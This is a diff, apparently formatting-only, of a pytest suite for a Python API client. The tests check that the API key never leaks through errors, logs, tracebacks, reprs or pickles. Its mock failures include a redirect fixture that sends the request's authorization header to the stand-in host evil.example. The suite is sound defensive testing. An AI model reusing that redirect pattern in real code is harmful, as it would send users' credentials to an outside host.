@@ -47,7 +47,9 @@ def broken(error: Exception) -> Trouble:
 
 TROUBLES: dict[str, Trouble] = {
     **{str(status): refusal(status) for status in (200, 400, 401, 403, 404, 409, 418, 429, 500, 503)},
-    "redirect": lambda request: httpx.Response(302, headers={"Location": f"https://evil.example/?{request.headers['authorization']}"}),
+    "redirect": lambda request: httpx.Response(
+        302, headers={"Location": f"https://evil.example/?{request.headers['authorization']}"}
+    ),
     "html": lambda request: httpx.Response(200, text=f"<html>{request.headers['authorization']}"),
     "words": lambda _: httpx.Response(401, json={"error": f"No such key: {KEY}"}),
     "time-out": broken(httpx.ReadTimeout(f"slow {KEY}")),
@@ -86,12 +88,19 @@ def shown(error: BaseException) -> str:
 
 
 @pytest.mark.parametrize("account", TROUBLES, indirect=True)
-def test_errors_never_show_the_key(account: hj.Hedy, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]) -> None:
+def test_errors_never_show_the_key(
+    account: hj.Hedy, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
     """No error shows the key in any form, in its traceback with locals, in a log at DEBUG, on the screen, or in a pickle."""
     caplog.set_level(logging.DEBUG)
     for name in ("httpx", "httpcore", "hedy_jupyter", "asyncio"):
         caplog.set_level(logging.DEBUG, logger=name)
-    reads: list[Callable[[], object]] = [account.me, lambda: account.sessions(None), lambda: account.session("sess_1"), account.todos]
+    reads: list[Callable[[], object]] = [
+        account.me,
+        lambda: account.sessions(None),
+        lambda: account.session("sess_1"),
+        account.todos,
+    ]
     caught = []
     for read in reads:
         with pytest.raises(HedyError) as error:
@@ -129,7 +138,12 @@ def test_objects_never_show_the_key(api: Any, hedy: hj.Hedy, key: str) -> None:
     objects += [api.requests[0], LIMITS]
 
     forms = [repr(one) + str(one) + repr(getattr(one, "__dict__", "")) for one in objects]
-    forms += [repr(dict(client._http.headers)), repr(client._http.base_url), repr(hedy.settings.sources), repr(hedy.requests)]
+    forms += [
+        repr(dict(client._http.headers)),
+        repr(client._http.base_url),
+        repr(hedy.settings.sources),
+        repr(hedy.requests),
+    ]
 
     assert not [form for form in forms if key in form]
 
@@ -144,7 +158,10 @@ def test_accounts_are_not_pickled(hedy: hj.Hedy) -> None:
 def test_data_is_not_altered(api: Any, hedy: hj.Hedy) -> None:
     """Words that look like a key are left alone in the account's own data."""
     title = "Rotate hedy_live_abc123 today"
-    api.answers = {"/topics": {"success": True, "data": [{"id": "topic_1", "name": title}]}, "/me": {"id": "u", "name": title}}
+    api.answers = {
+        "/topics": {"success": True, "data": [{"id": "topic_1", "name": title}]},
+        "/me": {"id": "u", "name": title},
+    }
 
     assert hedy.topics()["name"][0] == title
     assert hedy.me().name == title
@@ -231,7 +248,9 @@ def undone(text: str) -> str:
     """*text* with all escapes undone, in lower case: what a reader of it could find."""
     for _ in range(4):
         text = html.unescape(unquote(text))
-        text = re.sub(r"\\\\u\{?([0-9a-fA-F]{4})\}?|\\\\x([0-9a-fA-F]{2})", lambda found: chr(int(found[1] or found[2], 16)), text)
+        text = re.sub(
+            r"\\\\u\{?([0-9a-fA-F]{4})\}?|\\\\x([0-9a-fA-F]{2})", lambda found: chr(int(found[1] or found[2], 16)), text
+        )
         text = re.sub(r"\\\\([^ux])", r"\1", text)
     return text.lower()
 
@@ -251,7 +270,8 @@ def test_the_own_key_in_disguise(disguise: str, key: str) -> None:
         for read in (account.me, account.topics, account.todos):
             with pytest.raises(HedyError) as caught:
                 read()
-            seen = "\n".join([shown(caught.value), *caught.value._render_traceback_(), repr(pickle.loads(pickle.dumps(caught.value)))])  # noqa: S301
+            copied = pickle.loads(pickle.dumps(caught.value))  # noqa: S301
+            seen = "\n".join([shown(caught.value), *caught.value._render_traceback_(), repr(copied)])
             for form in (seen, undone(seen)):
                 assert key[10:20].lower() not in form.lower()
                 assert key[-8:].lower() not in form.lower()
@@ -308,7 +328,8 @@ def test_innocent_text_stays(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("key", "text"), [("hedy_live_other", "No other meeting."), ("hedy_live_a", "a an A"), ("hedy_live_pro", "Hedy Pro")]
+    ("key", "text"),
+    [("hedy_live_other", "No other meeting."), ("hedy_live_a", "a an A"), ("hedy_live_pro", "Hedy Pro")],
 )
 def test_a_short_key_is_masked_as_a_whole_only(key: str, text: str) -> None:
     """What is behind the prefix of a short key may be a word: it is masked only together with it."""
@@ -342,8 +363,13 @@ def test_data_that_shows_the_own_key_is_not_altered(api: Any, hedy: hj.Hedy) -> 
 
 def test_a_long_message_is_cut() -> None:
     """A server's message of any length is a message of some lines."""
-    answer = httpx.Response(400, json={"success": False, "error": {"code": "validation_error", "message": "No. " * 1_000_000}})
-    with hj.connect(api_key=KEY, transport=httpx.MockTransport(lambda _: answer)) as account, pytest.raises(hj.InvalidRequest) as caught:
+    answer = httpx.Response(
+        400, json={"success": False, "error": {"code": "validation_error", "message": "No. " * 1_000_000}}
+    )
+    with (
+        hj.connect(api_key=KEY, transport=httpx.MockTransport(lambda _: answer)) as account,
+        pytest.raises(hj.InvalidRequest) as caught,
+    ):
         account.me()
 
     assert len(str(caught.value)) < 3_000
@@ -351,7 +377,10 @@ def test_a_long_message_is_cut() -> None:
 
 @pytest.mark.parametrize("mode", ["Plain", "Context", "Verbose", "Minimal"])
 def test_no_traceback_mode_shows_the_key(mode: str) -> None:
-    """With any ``%xmode``, errors of connecting and reading, and a stop in the middle, show no key; errors are two lines."""
+    """With any ``%xmode``, errors of connecting and reading, and a stop in the middle, show no key.
+
+    Errors are two lines.
+    """
     code = f"""
 import os
 os.environ["HEDY_API_KEY"] = {KEY!r}
